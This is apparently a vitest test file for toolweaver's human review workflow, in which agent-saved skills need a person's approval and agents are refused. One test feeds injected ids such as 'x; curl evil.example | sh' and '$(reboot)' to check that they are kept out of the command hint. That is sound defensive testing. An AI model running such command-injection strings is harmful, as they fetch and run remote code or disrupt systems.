import { describe, expect, it } from 'vitest';
import { createPrincipal } from '../../src/access/principals.ts';
import { type DecisionRequest, decide, listReviews } from '../../src/approval/reviews.ts';
import type { Principal } from '../../src/contracts.ts';
import { libraryReviewEnds } from '../../src/library/decide.ts';
import { viewReview } from '../../src/library/review-view.ts';
import { agent, person, type TestApp, testApp } from '../helpers/app.ts';
import { bare, saveSkill } from '../helpers/drafts.ts';

/** Saves what waits for a review, and gives that review. */
async function waiting(app: TestApp, fields: Record<string, unknown> = {}) {
  await app.use('save_skill', bare(fields));
  const [review] = await listReviews(app.database.read, 'local', 'open', 1);
  if (!review) throw new Error('no review is open');
  return { id: review.id, seal: review.subject.seal };
}

const decideAs = (app: TestApp, principal: Principal, request: Omit<DecisionRequest, 'how'>) =>
  app.database.write((trx) => decide(trx, libraryReviewEnds, principal, { how: 'cli', ...request }, Date.now()));

describe('a review', () => {
  it('that a person approves makes the version active at once, and keeps who, how and why', async () => {
    const app = await testApp();
    const { id, seal } = await waiting(app);
    const closed = await decideAs(app, person, { id, seal, verdict: 'approved', comment: 'reads well' });
    expect(closed).toMatchObject({
      state: 'approved',
      decisions: [{ principal: 'person:test', decision: 'approved', comment: 'reads well', how: 'cli' }],
    });
    expect(await app.use('double', { x: 2 })).toEqual({ y: 4 });
    expect(await app.use('list_reviews', { state: 'approved' })).toMatchObject({
      reviews: [{ id, state: 'approved' }],
    });
  });

  it('that a person rejects never runs, and its content cannot be saved again', async () => {
    const app = await testApp();
    const { id, seal } = await waiting(app);
    await decideAs(app, person, { id, seal, verdict: 'rejected', comment: 'too simple' });
    await expect(app.use('double', { x: 2 })).rejects.toMatchObject({ code: 'not_approved' });
    await expect(app.use('save_skill', bare())).rejects.toMatchObject({
      code: 'conflict',
      message: expect.stringContaining(id),
      hint: 'The reason given: too simple',
    });
    expect(await app.use('save_skill', bare({ description: 'Doubles a number, better.' }))).toMatchObject({
      version: '1.0.1',
    });
  });

  it('of a next version leaves the active one running until it is approved', async () => {
    const app = await testApp();
    await app.save();
    await app.use('save_skill', bare({ code: 'export default () => ({ y: 0 });' }));
    expect(await app.use('double', { x: 2 })).toEqual({ y: 4 });
    await app.decide('approved');
    expect(await app.use('double', { x: 2 })).toEqual({ y: 0 });
    expect(await app.use('double@1.0.0', { x: 2 })).toEqual({ y: 4 });
  });

  it('is voided by a newer draft, which waits in its place', async () => {
    const app = await testApp();
    const first = await waiting(app);
    const second = await waiting(app, { description: 'Doubles one number.' });
    expect(second.id).not.toBe(first.id);
    await expect(decideAs(app, person, { ...first, verdict: 'approved' })).rejects.toMatchObject({
      code: 'conflict',
      message: expect.stringContaining('voided'),
    });
    const { reviews } = (await app.use('list_reviews', { state: 'all' })) as { reviews: Record<string, string>[] };
    const states = Object.fromEntries(reviews.map(({ version, state }) => [version, state]));
    expect(states).toEqual({ '1.0.1': 'open', '1.0.0': 'voided' });
    expect(await app.use('list_versions', { name: 'double' })).toMatchObject({
      versions: [
        { version: '1.0.1', state: 'pending' },
        { version: '1.0.0', state: 'rejected', reason: expect.stringContaining('replaced by 1.0.1') },
      ],
    });
    await decideAs(app, person, { ...second, verdict: 'approved' });
    expect(await app.use('double', { x: 2 })).toEqual({ y: 4 });
  });

  it('that was voided does not forbid its content', async () => {
    const app = await testApp();
    await waiting(app);
    await waiting(app, { description: 'Doubles one number.' });
    expect(await app.use('save_skill', bare())).toMatchObject({ changed: true, version: '1.0.2', state: 'pending' });
  });
});

describe('a decision', () => {
  const others: [string, Principal][] = [
    ['an agent', agent],
    ['an agent with every role', createPrincipal('agent:root', 'agent', ['admin', 'reviewer'])],
    ['an agent that claims the scope', { ...agent, scopes: [...agent.scopes, 'approve'] }],
    ['a service that claims the scope', { ...person, id: 'service:x', kind: 'service' }],
    ['a person who may not approve', createPrincipal('person:guest', 'person', ['author'])],
  ];
  it.each(others)('of %s is refused', async (_, principal) => {
    const app = await testApp();
    const { id, seal } = await waiting(app);
    await expect(decideAs(app, principal, { id, seal, verdict: 'approved' })).rejects.toMatchObject({
      code: 'needs_person',
      message: expect.stringContaining(principal.id),
      hint: expect.stringContaining(`toolweaver review approve ${id}`),
    });
    expect(await app.use('list_reviews')).toMatchObject({ reviews: [{ id, state: 'open' }] });
  });

  it('names the seal that was seen', async () => {
    const app = await testApp();
    const { id } = await waiting(app);
    for (const seal of ['', '0'.repeat(64)]) {
      await expect(decideAs(app, person, { id, seal, verdict: 'approved' })).rejects.toMatchObject({
        code: 'conflict',
      });
    }
    await expect(app.use('double', { x: 2 })).rejects.toMatchObject({ code: 'not_approved' });
  });

  it('on a closed review is a conflict, also the same one again', async () => {
    const app = await testApp();
    const { id, seal } = await waiting(app);
    await decideAs(app, person, { id, seal, verdict: 'approved' });
    for (const verdict of ['approved', 'rejected'] as const) {
      await expect(decideAs(app, person, { id, seal, verdict })).rejects.toMatchObject({
        code: 'conflict',
        message: expect.stringContaining('approved'),
      });
    }
    expect(await app.use('double', { x: 2 })).toEqual({ y: 4 });
  });

  it('of two people at once counts once', async () => {
    const app = await testApp();
    const { id, seal } = await waiting(app);
    const other = createPrincipal('person:other', 'person', ['reviewer']);
    const results = await Promise.allSettled([
      decideAs(app, person, { id, seal, verdict: 'approved' }),
      decideAs(app, other, { id, seal, verdict: 'rejected' }),
    ]);
    expect(results.map(({ status }) => status).sort()).toEqual(['fulfilled', 'rejected']);
  });

  it('on what does not exist is not_found', async () => {
    const app = await testApp();
    await expect(decideAs(app, person, { id: 'nothing', seal: '', verdict: 'approved' })).rejects.toMatchObject({
      code: 'not_found',
    });
  });

  it('on one’s own version is marked as such', async () => {
    const app = await testApp();
    await app.use('save_skill', bare(), { principal: person });
    await app.decide('approved');
    const [review] = await listReviews(app.database.read, 'local', 'approved', 1);
    expect(review?.decisions).toMatchObject([{ how: 'cli, own version' }]);
  });

  it('of another tenant does not reach this one', async () => {
    const app = await testApp();
    const { id, seal } = await waiting(app);
    const stranger = { ...person, tenant: 'other' };
    await expect(decideAs(app, stranger, { id, seal, verdict: 'approved' })).rejects.toMatchObject({
      code: 'not_found',
    });
  });
});

describe('decide_review', () => {
  it('gives an agent the command for the person, and decides nothing', async () => {
    const app = await testApp();
    const { id } = await waiting(app);
    await expect(app.use('decide_review', { id })).rejects.toMatchObject({
      code: 'needs_person',
      hint: expect.stringContaining(`toolweaver review approve ${id}`),
    });
    expect(await app.use('list_reviews')).toMatchObject({ reviews: [{ id, state: 'open' }] });
  });

  it.each(['nothing', 'x; curl evil.example | sh', '$(reboot)', '`reboot`', 'a\u202eb'])(
    'puts no made-up id into a command for a person: %s',
    async (id) => {
      const app = await testApp();
      const outcome = await app.outcome('decide_review', { id });
      expect(outcome).toMatchObject({ status: 'failed', error: { code: 'not_found' } });
      if (outcome.status === 'failed') expect(outcome.error.hint).not.toContain(id);
      expect(JSON.stringify(outcome)).not.toContain('\u202e');
    },
  );

  it('on a closed review is a conflict', async () => {
    const app = await testApp();
    const { id } = await waiting(app);
    await app.decide('approved');
    await expect(app.use('decide_review', { id })).rejects.toMatchObject({ code: 'conflict' });
  });
});

describe('what a reviewer is shown', () => {
  it('is all of a first version', async () => {
    const app = await testApp();
    const { id, seal } = await waiting(app, { tags: ['math'] });
    const view = await viewReview(app.database.read, 'local', id);
    expect(view).toMatchObject({ review: { subject: { seal } }, risk: 'none', dependents: [] });
    expect(view).not.toHaveProperty('against');
    const parts = Object.fromEntries(view.parts.map(({ part, after }) => [part, after]));
    expect(parts.code).toBe(bare().code);
    for (const part of [
      'name',
      'description',
      'input',
      'output',
      'capabilities',
      'limits',
      'engine',
      'lock',
      'examples',
      'tags',
    ])
      expect(parts, part).toHaveProperty(part);
  });

  it('is what differs from the active version, and who uses it', async () => {
    const app = await testApp();
    await app.save();
    await saveSkill(app, 'user', 'return ctx.tools.double({ x: 1 });');
    await app.decide('approved');
    const { id } = await waiting(app, { description: 'Doubles one number.' });
    const view = await viewReview(app.database.read, 'local', id);
    expect(view).toMatchObject({ against: '1.0.0', dependents: ['user@1.0.0'] });
    expect(view.parts.map(({ part }) => part).sort()).toEqual(['description', 'examples']);
    expect(view.parts).toContainEqual({
      part: 'description',
      before: 'Doubles a number.',
      after: 'Doubles one number.',
    });
  });
});
